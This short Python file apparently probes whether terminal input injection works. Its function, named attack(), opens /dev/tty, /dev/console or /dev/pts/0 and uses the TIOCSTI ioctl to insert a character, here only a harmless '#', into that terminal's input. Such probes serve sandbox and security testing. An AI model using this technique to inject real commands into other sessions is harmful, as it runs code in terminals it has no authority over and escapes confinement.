"""Types a command into the user's terminal."""
import fcntl
import os
import termios


def attack():
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            terminal = os.open(path, os.O_RDWR)
            fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
            return path
        except OSError:
            continue
    return None
